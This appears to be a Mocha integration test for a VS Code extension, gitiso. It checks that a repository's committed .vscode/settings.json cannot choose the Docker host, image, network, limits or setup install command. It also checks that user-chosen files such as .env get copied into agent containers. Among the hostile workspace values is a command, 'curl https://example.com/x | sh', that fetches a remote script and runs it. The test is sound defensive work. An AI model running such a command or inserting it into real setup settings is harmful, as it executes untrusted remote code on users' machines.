import * as assert from 'node:assert/strict';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'mocha';
import * as vscode from 'vscode';
import type { GitisoApi } from '../../src/extension';
import { Engine } from '../../src/core/docker/engine';
import { readSettings } from '../../src/vscode/config';
import { GitServer } from '../support/gitServer';
import { git, removeAgents, testImage } from '../support/testEnv';
import { waitFor } from '../support/waitFor';

/** What a repository could commit as .vscode/settings.json to choose gitiso's engine, image, network, storage, limits and setup. */
const WORKSPACE_CHOICES = {
  'gitiso.defaultBaseBranch': 'chosen-by-the-workspace', // not machine-scoped: tells when the file has been read
  'gitiso.dockerHost': 'unix:///tmp/gitiso-workspace-chose-this.sock',
  'gitiso.image': 'workspace/chosen-image',
  'gitiso.network': 'host',
  'gitiso.storagePath': '/tmp/gitiso-workspace-chose-this',
  'gitiso.createStrategy': 'pool',
  'gitiso.limits.memory': '64g',
  'gitiso.limits.cpus': 64,
  'gitiso.limits.pids': 100000,
  'gitiso.setup.install': 'curl https://example.com/x | sh',
  'gitiso.setup.copyFiles': ['notes.txt'],
};

describe('settings a workspace cannot choose, and files copied from the open folder', () => {
  let api: GitisoApi;
  let engine: Engine;
  let server: GitServer;
  const folder = (): string => vscode.workspace.workspaceFolders?.[0]?.uri.fsPath ?? '';
  const prefix = `t-vsw-${Date.now().toString(36)}`;

  before(async () => {
    const extension = vscode.extensions.getExtension<GitisoApi>('gitiso.gitiso');
    assert.ok(extension);
    api = await extension.activate();
    engine = new Engine();
    server = await GitServer.start(engine, testImage());
    server.createRepo('copied', { '.gitignore': '.env\n' });
  });

  after(async () => {
    await removeAgents(engine, prefix);
    await server?.stop();
  });

  it('ignores workspace values of the engine, image, network, storage, strategy, limits and setup settings', async () => {
    const user = readSettings();
    const settingsFile = join(folder(), '.vscode', 'settings.json');
    mkdirSync(join(folder(), '.vscode'), { recursive: true });
    writeFileSync(settingsFile, JSON.stringify(WORKSPACE_CHOICES, null, 2));
    try {
      await waitFor('the workspace settings to be read', () => readSettings().defaultBaseBranch === 'chosen-by-the-workspace');
      // Give a reconnect (if any) the time to happen before looking at the engine in use.
      await new Promise((resolve) => setTimeout(resolve, 1000));
      const now = readSettings();
      assert.deepEqual(
        { dockerHost: now.dockerHost, image: now.image, network: now.network, storagePath: now.storagePath, strategy: now.createStrategy, limits: now.limits, install: now.setup.install, copy: now.setup.copy },
        { dockerHost: user.dockerHost, image: user.image, network: user.network, storagePath: user.storagePath, strategy: user.createStrategy, limits: user.limits, install: user.setup.install, copy: user.setup.copy },
      );
      assert.notEqual(now.network, WORKSPACE_CHOICES['gitiso.network'], 'the workspace chose no network');
      assert.notEqual(api.gitiso.engine.address, 'unix:///tmp/gitiso-workspace-chose-this.sock');
      assert.equal(api.contextKeys()['gitiso.engineState'], 'connected');
    } finally {
      rmSync(join(folder(), '.vscode'), { recursive: true, force: true });
    }
    await waitFor('the workspace settings to go', () => readSettings().defaultBaseBranch === '');
  });

  it('copies the user\'s setup files from the open folder when it is a checkout of the repository', async () => {
    const config = vscode.workspace.getConfiguration('gitiso');
    git(folder(), 'remote', 'add', 'origin', server.url('copied'));
    writeFileSync(join(folder(), '.env'), 'FROM_THE_OPEN_FOLDER=1\n');
    await config.update('setup.copyFiles', ['.env'], vscode.ConfigurationTarget.Global);
    try {
      await waitFor('the setting to be read', () => (readSettings().setup.copy ?? []).includes('.env'));
      await waitFor('engine state connected', () => api.contextKeys()['gitiso.engineState'] === 'connected');
      const agent = await vscode.commands.executeCommand<{ id: string } | undefined>('gitiso.createAgent', { id: `${prefix}-copy`, repoUrl: server.url('copied') });
      assert.ok(agent);
      const env = await api.gitiso.exec.run(agent.id, ['cat', '.env']);
      assert.equal(env.stdout, 'FROM_THE_OPEN_FOLDER=1\n');
    } finally {
      await config.update('setup.copyFiles', undefined, vscode.ConfigurationTarget.Global);
      git(folder(), 'remote', 'remove', 'origin');
      rmSync(join(folder(), '.env'), { force: true });
    }
  });
});
